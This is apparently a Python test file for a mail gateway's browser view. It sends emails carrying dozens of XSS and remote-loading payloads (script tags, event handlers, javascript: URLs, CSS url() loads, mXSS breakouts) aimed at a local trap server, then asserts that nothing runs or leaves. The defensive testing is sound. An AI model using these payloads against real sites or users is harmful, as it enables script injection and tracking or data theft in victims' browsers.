"""Mail that would run a script, load something or lead away, looked at in a real browser: 0 requests, nothing runs.

Rule: each payload stands in every field that is shown, and the trap hears of any request that leaves for it.
"""

import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Error

from tests.browser.conftest import set_up
from tests.gateway import Gateway
from tests.provider import say

# TRAP stands for the address of somebody else's server, RUN for a script that would give itself away.
RUN = "top.owned=self.owned=1;fetch('TRAP/run')"
PAYLOADS = [
    f"<script>{RUN}</script>",
    "<script src=TRAP/script.js></script>",
    f"<img src=x onerror=\"{RUN}\">",
    "<img src=TRAP/pixel.gif><img srcset='TRAP/set.gif 2x'>",
    "<picture><source srcset=TRAP/source.gif><img></picture>",
    f"<svg onload=\"{RUN}\"></svg>",
    "<svg><image href=TRAP/svg.png /><use href='TRAP/use.svg#a'/></svg>",
    "<svg><script href=TRAP/svg.js></script></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    "<meta http-equiv=refresh content='0;url=TRAP/refresh'>",
    "<base href=TRAP/base/><img src=relative.gif><a href=click>x</a>",
    "<link rel=stylesheet href=TRAP/style.css>",
    "<link rel=prefetch href=TRAP/prefetch><link rel=preload as=image href=TRAP/preload>",
    "<link rel=dns-prefetch href=TRAP><link rel=preconnect href=TRAP>",
    "<link rel=icon href=TRAP/icon.png><link rel=manifest href=TRAP/manifest>",
    "<style>@import 'TRAP/import.css';</style>",
    "<style>body{background:url(TRAP/body.png)}</style>",
    "<style>@font-face{font-family:f;src:url(TRAP/font.woff)}*{font-family:f}</style><p>text</p>",
    "<div style='background-image:url(TRAP/inline.png)'>x</div>",
    "<ul style='list-style:url(TRAP/list.png)'><li>x</ul>",
    "<div style=\"content:url('TRAP/content.png');cursor:url(TRAP/cursor.cur),auto\">x</div>",
    "<iframe src=TRAP/frame></iframe>",
    f"<iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{RUN}\"></iframe>",
    "<object data=TRAP/object></object><embed src=TRAP/embed>",
    "<applet code=x archive=TRAP/applet></applet><param name=movie value=TRAP/movie>",
    "<video src=TRAP/video autoplay poster=TRAP/poster></video><audio src=TRAP/audio autoplay></audio>",
    "<video><track src=TRAP/track default></video>",
    f"<form action=TRAP/form><input autofocus onfocus=\"{RUN}\"><button>x</button></form>",
    "<form id=f action=TRAP/auto></form><script>f.submit()</script>",
    "<form><button formaction=TRAP/formaction>x</button></form>",
    f"<details open ontoggle=\"{RUN}\">x</details>",
    f"<body onload=\"{RUN}\" background=TRAP/background.png>",
    "<table background=TRAP/table.png><tr><td background=TRAP/cell.png>x</table>",
    "<input type=image src=TRAP/input.png>",
    f"<a href=\"javascript:{RUN}\" autofocus>x</a><a href=TRAP/ping ping=TRAP/pinged>y</a>",
    "<img src='cid:TRAP/cid'><img src='cid:../../settings/general'>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"TRAP/d.png\"/></svg>'>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=\"{RUN}\"></style></mtext></svg></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"</pre></textarea></title></iframe><script>{RUN}</script>",
    "<frameset><frame src=TRAP/frameset></frameset>",
    "<portal src=TRAP/portal></portal><fencedframe src=TRAP/fenced></fencedframe>",
    "<link rel=modulepreload href=TRAP/module.js><script type=module src=TRAP/m.js></script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"TRAP/rules\"]}]}</script>",
    "<input style=x onfocus=1 autofocus list=l><datalist id=l><option label=TRAP/option></datalist>",
]  # fmt: skip


@pytest.fixture
def trap() -> Iterator[tuple[str, list[str]]]:
    """A server that is nobody's business, and the requests that reached it."""
    heard: list[str] = []

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815  # names of the standard library

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", heard
    server.shutdown()
    thread.join()
    server.server_close()


def letter(payload: str, gateway: Gateway, number: int) -> str:
    """One message that has the payload wherever something is shown; its id."""
    line = payload.replace("\r", "").replace("\n", "")
    body = (
        "--b\r\nContent-Type: text/plain\r\n\r\n" + payload + "\r\n"
        "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Dear reader</p>" + payload + "\r\n"
        "--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <evil>\r\n"
        f'Content-Disposition: attachment; filename="{line.replace(chr(34), "")}.svg"\r\n\r\n{payload}\r\n--b--\r\n'
    )
    mark = gateway.send(
        mark=f"h{number}", body=body, MIME_Version="1.0", Content_Type="multipart/mixed; boundary=b",
        Subject=line, X_Evil=line, From=f'"{line.replace(chr(34), "")}" <shop@example.com>',
    )  # fmt: skip
    return gateway.numbers[mark]


def test_g18_nothing_in_a_message_or_a_reply_leaves_or_runs(tmp_path, primary, browser, trap):
    us, heard = trap
    said = "<img src=TRAP/reply.gif><svg onload=alert(1)>".replace("TRAP", us)
    primary.on("dot", say(f"550 5.7.1 {said}"))
    with Gateway(tmp_path, primary=primary, settings={"non_delivery_reports": False}) as gateway:
        letters = [letter(payload.replace("TRAP", us), gateway, number) for number, payload in enumerate(PAYLOADS)]
        # Not `visit`: here what the policy keeps back is told as an error, as it should be.
        page = browser.new_context(base_url=f"http://127.0.0.1:{gateway.http_port}").new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        set_up(page, gateway)
        heard.clear()
        for number, id in enumerate(letters):
            for path in ("", "/content", "/html") if number < 3 else ("/content", "/html"):  # framed, and by itself
                page.goto(f"/log/{id}{path}", wait_until="load")
                assert page.url.endswith(f"/log/{id}{path}")
                assert page.evaluate("self.owned") is None
        page.goto("/log")
        assert page.locator("tbody tr").count() == len(PAYLOADS)
        page.wait_for_timeout(300)
        page.context.close()
        assert (heard, dialogs) == ([], [])


def test_the_trap_hears_what_is_not_kept_back(browser, trap):
    """Without our policy the same payloads do leave: the test above can fail."""
    us, heard = trap
    page = browser.new_page()
    for payload in PAYLOADS:
        with suppress(Error):  # some lead away while they are set
            page.set_content(payload.replace("TRAP", us), timeout=2000)
    page.wait_for_timeout(300)
    page.close()
    assert len(set(heard)) > 15
